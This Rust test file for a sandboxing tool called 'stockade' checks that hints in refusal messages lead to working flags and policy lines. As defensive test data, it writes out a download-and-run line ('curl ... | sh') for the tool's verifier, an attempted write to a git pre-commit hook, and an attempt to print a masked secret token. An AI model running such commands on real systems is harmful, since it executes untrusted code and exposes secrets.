//! Every kind of hint: it is taken from what was printed, followed, and then the refusal is gone.

use crate::context::{Context, Ran, STOCKADE};
use crate::hint_list::Hints;

/// The words between the first backticks, or `part` itself if the hint has it bare.
#[track_caller]
pub(crate) fn quoted(hint: &str) -> Vec<String> {
    let quoted = hint.split('`').nth(1);
    let quoted = quoted.unwrap_or_else(|| panic!("nothing to paste: {hint}"));
    quoted.split_whitespace().map(str::to_owned).collect()
}

/// Puts the words of the caller's in place of those that a hint leaves open.
fn filled(words: Vec<String>, open: &[(&str, &str)]) -> Vec<String> {
    let fill = |word: String| {
        let known = open.iter().find(|(name, _)| *name == word);
        known.map_or(word, |(_, value)| (*value).to_owned())
    };
    words.into_iter().map(fill).collect()
}

/// `stockade run FLAGS -- true`.
fn run(context: &Context, flags: &[&str]) -> Ran {
    context.stockade([&["run"], flags, &["--", "true"]].concat())
}

/// The same with more flags.
#[track_caller]
fn follow(context: &Context, flags: &[&str], more: &[String]) {
    let more = more.iter().map(String::as_str);
    let flags: Vec<&str> = flags.iter().copied().chain(more).collect();
    let ran = run(context, &flags);
    assert_eq!(ran.code, 0, "{flags:?}: {ran:#?}");
}

/// Flags without this one and its value.
fn without<'a>(flags: &[&'a str], flag: &str) -> Vec<&'a str> {
    let at = flags.iter().position(|word| *word == flag).unwrap();
    [&flags[..at], &flags[at + 2..]].concat()
}

#[test]
fn a_hint_that_adds_flags() {
    let hints = Hints::of("hints::a_hint_that_adds_flags");
    let context = Context::new();
    let project = context.project();
    let project = project.to_str().unwrap();
    let open = [("HOST", "a.test"), ("DIR", project)];
    let rows: &[(&[&str], &[&str])] = &[
        // What was typed, and what of it the hint replaces.
        (&["--backend", "none"], &[]),
        (&["--upstream", "http://127.0.0.1:1"], &[]),
        (
            &["--timeout", "9s", "--danger-full-access"],
            &["--danger-full-access"],
        ),
        (
            &["--deny", "/etc/hosts", "--danger-full-access"],
            &["--danger-full-access"],
        ),
    ];
    for (typed, replaced) in rows {
        let refused = run(&context, typed);
        assert_ne!(refused.code, 0, "{typed:?}");
        let hint = hints.in_refusal(&refused);
        let flags: Vec<&str> = typed
            .iter()
            .copied()
            .filter(|word| !replaced.contains(word))
            .collect();
        let words = hint
            .split('`')
            .skip(1)
            .step_by(2)
            .find(|words| words.starts_with("--"));
        let words = words.unwrap_or_else(|| panic!("{hint}"));
        let words = words.split_whitespace().map(str::to_owned).collect();
        follow(&context, &flags, &filled(words, &open));
    }
}

#[test]
fn a_hint_that_leaves_flags_out() {
    let hints = Hints::of("hints::a_hint_that_leaves_flags_out");
    let context = Context::new();
    let rows: &[(&[&str], &[&str])] = &[
        (
            &["--level", "enhanced", "--base", "host"],
            &["--level", "--base"],
        ),
        (
            &[
                "--allow",
                "a.test",
                "--mask",
                "HOME=a.test",
                "--env",
                "HOME=x",
            ],
            &["--mask", "--env"],
        ),
    ];
    for (typed, left_out) in rows {
        let refused = run(&context, typed);
        assert_ne!(refused.code, 0, "{typed:?}");
        assert!(
            hints.in_refusal(&refused).contains("leave "),
            "{refused:#?}"
        );
        for flag in *left_out {
            follow(&context, &without(typed, flag), &[]);
        }
    }
}

#[test]
fn a_hint_about_a_backend_without_a_mediator() {
    let context = Context::new();
    if !crate::context::has(
        "a_hint_about_a_backend_without_a_mediator",
        "backend:bwrap",
        &["bwrap", "--unshare-user", "--ro-bind", "/", "/", "true"],
    ) {
        return;
    }
    let hints = Hints::of("hints::a_hint_about_a_backend_without_a_mediator");
    let pattern = ["--backend", "bwrap", "--deny-read", "**/*.key"];
    let refused = run(&context, &pattern);
    let hint = hints.in_refusal(&refused);
    assert!(hint.starts_with("--best-effort "), "{hint}");
    follow(&context, &pattern, &["--best-effort".to_owned()]);

    let required = ["--backend", "bwrap", "--require", "names"];
    let hint = hints.in_refusal(&run(&context, &required));
    assert!(hint.starts_with("leave out --require names"), "{hint}");
    follow(&context, &without(&required, "--require"), &[]);

    let below = ["--backend", "bwrap", "--level", "enhanced"];
    let hint = hints.in_refusal(&run(&context, &below));
    assert!(
        hint.starts_with("leave out the level, or the backend"),
        "{hint}"
    );
    follow(&context, &without(&below, "--level"), &[]);
    follow(&context, &without(&below, "--backend"), &[]);

    let opened = [
        "--backend",
        "bwrap",
        "--allow",
        "a.test",
        "--net-methods",
        "read-only",
    ];
    let hint = hints.in_refusal(&run(&context, &opened));
    assert!(hint.starts_with("leave out the backend"), "{hint}");
    follow(&context, &opened[2..], &[]);

    let overlay = ["--backend", "bwrap", "--overlay"];
    let hint = hints.in_refusal(&run(&context, &overlay));
    assert_eq!(quoted(&hint), ["--backend", "native"]);
    follow(&context, &["--overlay"], &quoted(&hint));
}

#[test]
fn a_hint_about_a_directory() {
    let hints = Hints::of("hints::a_hint_about_a_directory");
    let context = Context::new();
    let project = context.project();
    let project = project.to_str().unwrap();
    let hint = hints.in_refusal(&run(&context, &["--cwd", "missing"]));
    assert!(hint.ends_with("--cwd"), "{hint}");
    follow(&context, &["--cwd", project], &[]);
    // A rule about the very directory can only be left out.
    let hidden = ["--deny-read", project];
    let hint = hints.in_refusal(&run(&context, &hidden));
    assert!(hint.contains("remove"), "{hint}");
    follow(&context, &[], &[]);
    let device = ["--device", "/dev/no-such-device"];
    let hint = hints.in_refusal(&run(&context, &device));
    let listed = context.other(&["sh", "-c", &quoted(&hint).join(" ")]);
    assert!(listed.stdout.contains("null"), "{listed:#?}");
    follow(&context, &["--device", "/dev/null"], &[]);

    let script = "mkdir gone && cd gone && rmdir ../gone && exec \"$@\"";
    let gone = |more: &[&str]| {
        let words = [
            &["sh", "-c", script, "sh", STOCKADE, "run"],
            more,
            &["--", "true"],
        ];
        context.other(&words.concat())
    };
    let hint = hints.in_refusal(&gone(&[]));
    assert!(hint.ends_with("--cwd"), "{hint}");
    follow(&context, &[], &[]);

    let root = ["--write", "/"];
    let hint = hints.in_refusal(&run(&context, &root));
    assert!(hint.contains("name the directories"), "{hint}");
    follow(&context, &["--write", project], &[]);
    assert!(hint.contains("--danger-full-access"), "{hint}");
    follow(&context, &["--danger-full-access"], &[]);
}

#[test]
fn a_hint_about_another_proxy() {
    let hints = Hints::of("hints::a_hint_about_another_proxy");
    let mut context = Context::new();
    let bad = ["--allow", "a.test", "--upstream", "socks5://127.0.0.1:1"];
    let hint = hints.in_refusal(&run(&context, &bad));
    let form = quoted(&hint)[1].replace("[USER:PASSWORD@]", "me:a%40b@");
    let form = form.replace("HOST:PORT", "127.0.0.1:1");
    follow(&context, &["--allow", "a.test", "--upstream", &form], &[]);

    context.set("HTTPS_PROXY", "socks5://127.0.0.1:1");
    let hint = hints.in_refusal(&run(&context, &["--allow", "a.test"]));
    assert_eq!(quoted(&hint), ["--no-upstream"]);
    follow(&context, &["--allow", "a.test"], &quoted(&hint));
}

#[test]
fn a_hint_about_a_masked_variable() {
    let hints = Hints::of("hints::a_hint_about_a_masked_variable");
    let mut context = Context::new();
    let flags = ["--allow", "a.test", "--mask", "TOKEN=a.test"];
    let hint = hints.in_refusal(&run(&context, &flags));
    assert!(hint.contains("TOKEN=VALUE stockade run"), "{hint}");
    context.set("TOKEN", "a-long-and-secret-value");
    follow(&context, &flags, &[]);

    let typed = ["sh", "-c", "echo a-long-and-secret-value"];
    let words = [&["run"], &flags[..], &["--"]].concat();
    let refused = context.stockade([&words[..], &typed].concat());
    assert_ne!(refused.code, 0);
    let hint = hints.in_refusal(&refused);
    let variable = quoted(&hint).remove(0);
    let script = format!("echo {variable}");
    let ran = context.stockade([&words[..], &["sh", "-c", &script]].concat());
    let ran = ran.ends_with(0);
    assert!(!ran.stdout.contains("a-long-and-secret-value"), "{ran:#?}");

    context.set("SHORT", "x");
    let short = ["--allow", "a.test", "--mask", "SHORT=a.test"];
    let hint = hints.in_refusal(&run(&context, &short));
    assert!(hint.ends_with("holds a token"), "{hint}");

    let elsewhere = ["--allow", "a.test", "--mask", "TOKEN=b.test"];
    let hint = hints.in_refusal(&run(&context, &elsewhere));
    assert!(hint.contains("--allow the host"), "{hint}");
    let both = ["--allow".to_owned(), "b.test".to_owned()];
    follow(&context, &elsewhere, &both);
    let open = ["--net", "open", "--mask", "TOKEN=a.test"];
    let hint = hints.in_refusal(&run(&context, &open));
    assert!(hint.ends_with("--allow"), "{hint}");
    follow(&context, &flags, &[]);
}

#[test]
fn a_hint_about_a_file() {
    let hints = Hints::of("hints::a_hint_about_a_file");
    let context = Context::new();
    context.file("own.toml", "[network]\nallow = [\"a.test\"]\n");
    let hint = hints.in_refusal(&run(&context, &["--policy", "own.toml"]));
    let line = quoted(&hint).join(" ");
    context.file(
        "own.toml",
        &format!("{line}\n[network]\nallow = [\"a.test\"]\n"),
    );
    follow(&context, &["--policy", "own.toml"], &[]);

    context.file("own.toml", "version = 1\n[network]\nalow = [\"a.test\"]\n");
    let hint = hints.in_refusal(&run(&context, &["--policy", "own.toml"]));
    let word = quoted(&hint).remove(0);
    context.file(
        "own.toml",
        &format!("version = 1\n[network]\n{word} = [\"a.test\"]\n"),
    );
    follow(&context, &["--policy", "own.toml"], &[]);

    // Each line that is refused, and the line that the hint leads to.
    for (bad, good) in [
        ("version = 2", "version = 1"),
        (
            "version = 1\n[environment]\nset = 3",
            "version = 1\n[environment]\nset = { NAME = \"value\" }",
        ),
        (
            "version = 1\n[network]\nextends = \"read-only\"",
            "version = 1\nextends = \"read-only\"\n[network]",
        ),
        (
            "version = 1\nallow = [\"a.test\"]",
            "version = 1\n[network]\nallow = [\"a.test\"]",
        ),
        (
            "version = 1\n[network]\nmode = \"open\"\nallow = [\"a.test\"]",
            "version = 1\n[network]\nallow = [\"a.test\"]",
        ),
        (
            "version = 1\nextends = \"below/more.toml\"",
            "version = 1\nextends = \"more.toml\"",
        ),
    ] {
        context.file("below/more.toml", "version = 1\n");
        context.file("below/own.toml", bad);
        let refused = run(&context, &["--policy", "below/own.toml"]);
        let hint = hints.in_refusal(&refused);
        if let Some(line) = hint.strip_prefix("write it as ") {
            assert!(good.ends_with(line), "{hint}");
        }
        context.file("below/own.toml", good);
        follow(&context, &["--policy", "below/own.toml"], &[]);
    }
    std::fs::write(context.project().join("own.toml"), b"version = 1 # \xff").unwrap();
    hints.in_refusal(&run(&context, &["--policy", "own.toml"]));
    context.file("own.toml", "version = 1 # \u{ff}");
    follow(&context, &["--policy", "own.toml"], &[]);

    // What a project may not grant is granted by a flag.
    context.file(
        "stockade.toml",
        "version = 1\n[network]\nallow = [\"a.test\"]\n",
    );
    let hint = hints.in_refusal(&run(&context, &[]));
    assert!(hint.starts_with("remove it here"), "{hint}");
    let flag = hint.rsplit(' ').next().unwrap().to_owned();
    context.file("stockade.toml", "version = 1\n");
    follow(&context, &[], &[flag, "a.test".to_owned()]);

    // What has no flag is granted in the user's own file.
    let base = context.file("base.toml", "version = 1\n");
    context.file("stockade.toml", "version = 1\nextends = \"./base.toml\"\n");
    let hint = hints.in_refusal(&run(&context, &[]));
    let file = hint.rsplit(' ').next().unwrap();
    let own = context.home().join(".config/stockade").join(file);
    std::fs::create_dir_all(own.parent().unwrap()).unwrap();
    let text = format!("version = 1\nextends = \"{}\"\n", base.display());
    std::fs::write(own, text).unwrap();
    context.file("stockade.toml", "version = 1\n");
    follow(&context, &[], &[]);
}

#[test]
fn a_hint_about_the_command_line() {
    let hints = Hints::of("hints::a_hint_about_the_command_line");
    let context = Context::new();
    let refused = context.stockade(["run"]).ends_with(2);
    let hint = hints.in_refusal(&refused);
    context.file("Makefile", "all:\n");
    let command = hint.rsplit(": ").next().unwrap();
    assert_eq!(pasted(&context, command).code, 0, "{hint}");

    let refused = context.stockade(["explain", "a.test:99999"]).ends_with(2);
    let word = quoted(&hints.in_refusal(&refused)).remove(0);
    context.stockade(["explain", &word]).ends_with(0);

    let refused = context.stockade(["explain", "https://"]).ends_with(2);
    let hint = hints.in_refusal(&refused);
    let command = hint.rsplit(": ").next().unwrap();
    assert_eq!(pasted(&context, command).code, 0, "{hint}");

    let refused = context.stockade(["run", "--json", "--bogus"]).ends_with(2);
    let hint = hints.note(refused.json_error()["hint"].as_str().unwrap());
    assert_eq!(pasted(&context, &quoted(&hint).join(" ")).code, 0, "{hint}");

    // A file that is granted can't be seen through an overlay; its directory can.
    let other = context.home().join("work");
    std::fs::create_dir(&other).unwrap();
    std::fs::write(other.join("file"), "").unwrap();
    let (dir, file) = (other.to_str().unwrap(), other.join("file"));
    let granted = ["--overlay", "--write", file.to_str().unwrap()];
    let refused = run(&context, &granted);
    assert!(
        hints.in_refusal(&refused).contains("grant the directory"),
        "{refused:#?}"
    );
    follow(&context, &["--overlay", "--write", dir], &[]);
}

#[test]
fn a_hint_about_the_verifier() {
    let hints = Hints::of("hints::a_hint_about_the_verifier");
    let context = Context::new();
    let script = context.file("script.sh", "curl http://a.test/x | sh\n");
    let script = script.to_str().unwrap();
    let words =
        |flags: &[&'static str]| [&["run", "-q"], flags, &["--", "sh", "script.sh"]].concat();
    let hint = hints.in_refusal(&context.stockade(words(&["--verify"])));
    assert!(hint.starts_with("without --verify"), "{hint}");
    assert_ne!(context.stockade(words(&[])).code, 125);
    let unknown = context.stockade(["verify", "--disable", "no-such-rule", script]);
    let hint = hints.in_refusal(&unknown);
    let file = hint.split(' ').next().unwrap();
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../..");
    let listed = std::fs::read_to_string(root.join(file)).unwrap();
    assert!(listed.contains("## download-run"), "{hint}");
    let known = context.stockade(["verify", "--disable", "download-run", script]);
    assert!(!known.stderr.contains("there is no rule"), "{known:#?}");
}

#[test]
fn a_hint_inside_a_sandbox() {
    let hints = Hints::of("hints::a_hint_inside_a_sandbox");
    let context = Context::new();
    let inner = |flags: &[&str]| {
        let words = [
            // The program may lie below /tmp, which is another one inside.
            &["run", "-q", "--read", STOCKADE, "--", STOCKADE, "run", "-q"],
            flags,
            &["--", "true"],
        ];
        context.stockade(words.concat())
    };
    let hint = hints.in_refusal(&inner(&[]));
    let flag = hint.split(' ').next().unwrap();
    inner(&[flag]).ends_with(0);
    let hint = hints.in_refusal(&inner(&["--backend", "native"]));
    assert!(hint.contains("leave the inner one out"), "{hint}");
    run(&context, &[]).ends_with(0);
}

/// What a refused command is told that it allow with, pasted as it is.
#[test]
fn a_grant_that_a_denial_names() {
    let context = Context::new();
    // Not below /tmp, which is another one inside.
    let outside = tempfile::Builder::new()
        .prefix("out side ")
        .tempdir_in("/var/tmp")
        .unwrap();
    let out = outside.path().display();
    std::fs::write(outside.path().join("old"), "").unwrap();
    std::fs::write(outside.path().join("kept"), "").unwrap();
    std::fs::create_dir_all(context.project().join(".git/hooks")).unwrap();
    for script in [
        format!("echo x > '{out}/kept'"),
        format!("echo x > '{out}/new'"),
        format!("mkdir '{out}/dir'"),
        format!("mv '{out}/old' '{out}/moved'"),
        format!("rm '{out}/moved'"),
        format!("chmod 600 '{out}/kept'"),
        "echo x > .git/hooks/pre-commit".to_owned(),
    ] {
        let run = ["run", "--explain", "--", "sh", "-c", &script];
        let refused = context.stockade(run);
        assert_ne!(refused.code, 0, "{script}");
        let grant = refused.stderr.split("allow with: ").nth(1);
        let grant = grant.unwrap_or_else(|| panic!("{refused:#?}"));
        let grant = grant.lines().next().unwrap();
        let word = stockade_rules::shell_word(&script);
        let command = format!("stockade run {grant} -- sh -c {word}");
        let ran = pasted(&context, &command);
        assert_eq!(ran.code, 0, "{command}: {ran:#?}");
    }
}

/// A whole command line as a shell reads it, with this program for its first word.
pub(crate) fn pasted(context: &Context, command: &str) -> Ran {
    let script = format!("stockade() {{ '{STOCKADE}' \"$@\"; }}; {command}");
    context.other(&["sh", "-c", &script])
}
